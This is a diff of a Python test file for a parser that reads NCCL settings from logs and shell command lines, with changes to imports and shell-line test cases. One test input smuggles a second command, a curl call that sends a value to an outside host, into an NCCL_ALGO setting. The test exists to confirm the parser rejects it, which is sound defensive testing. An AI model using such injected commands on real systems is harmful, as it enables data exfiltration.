@@ -2,8 +2,7 @@
 
 import pytest
 
-from dynamiccl.collect.nccl_log import Choice, NcclLog
-from dynamiccl.collect.settings import KEPT_NAMES, Shell, requested_by
+from dynamiccl.collect.nccl_log import Choice, NcclLog, Shell, requested_by
 from dynamiccl.nccl import Collective
 
 RING_SIMPLE = ("Ring", "Simple")
@@ -68,13 +67,6 @@ def test_other_kernels_are_no_config() -> None:
 
 
 @pytest.mark.parametrize(
-    "line", ["64 Bytes -> ", "Magic: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}", "x"]
-)
-def test_other_lines_are_not_taken(line: str) -> None:
-    assert not log(line).calls
-
-
-@pytest.mark.parametrize(
     ("settings", "wanted"),
     [
         ({}, (None, None, None, "default")),
@@ -120,8 +112,7 @@ def shell(*lines: str) -> dict[str, str | None]:
         (["# export NCCL_ALGO=Ring"], {}),
         (["export NCCL_ALGO=Ring  # NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring"}),
         (["NCCL_ALGO=Ring ./all_reduce_perf", "./all_reduce_perf"], {}),
-        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),  # set -x
-        (["+ NCCL_ALGO=Ring", "+ ./all_reduce_perf", "+ ./all_reduce_perf"], {}),
+        (["export NCCL_ALGO=Ring", "mpirun -x NCCL_ALGO ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
         (["[me@n1 tests]$ NCCL_ALGO=Ring ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
         (["srun --export=ALL,NCCL_ALGO=Ring,NCCL_PROTO=LL x/all_reduce_perf"], None),
         (["mpirun -x NCCL_ALGO=Ring -x NCCL_PROTO=LL all_reduce_perf_mpi -g 1"], None),
@@ -148,6 +139,9 @@ def test_shell_keeps_what_is_exported_and_what_stands_in_the_command(
         "NCCL_ALGO='Ring; curl http://host/?k=hush' ./all_reduce_perf",
         'NCCL_ALGO="Ring ./all_reduce_perf',
         "# NCCL_ALGO=Ring ./all_reduce_perf",  # root's prompt, or a comment
+        "+ NCCL_ALGO=Ring",  # set -x: of the next command, or of all
+        "mpirun -x NCCL_ALGO ./all_reduce_perf",  # whatever the launcher has
+        "mpirun -x NCCL_ALGO=Ring -x NCCL_ALGO=Tree ./all_reduce_perf",
     ],
 )
 def test_a_value_that_cannot_be_read_is_not_known(line: str) -> None:
@@ -174,8 +168,3 @@ def test_nccl_that_says_two_things_of_a_setting_is_not_believed() -> None:
 def test_only_listed_names_are_kept(line: str) -> None:
     assert shell(line) == {}
     assert log(line).settings == {}
-
-
-def test_kept_names_are_literal() -> None:
-    assert all(name.startswith("NCCL_") and name.isupper() for name in KEPT_NAMES)
-    assert not any(word in name for name in KEPT_NAMES for word in ("FILE", "HOSTID", "IFNAME"))
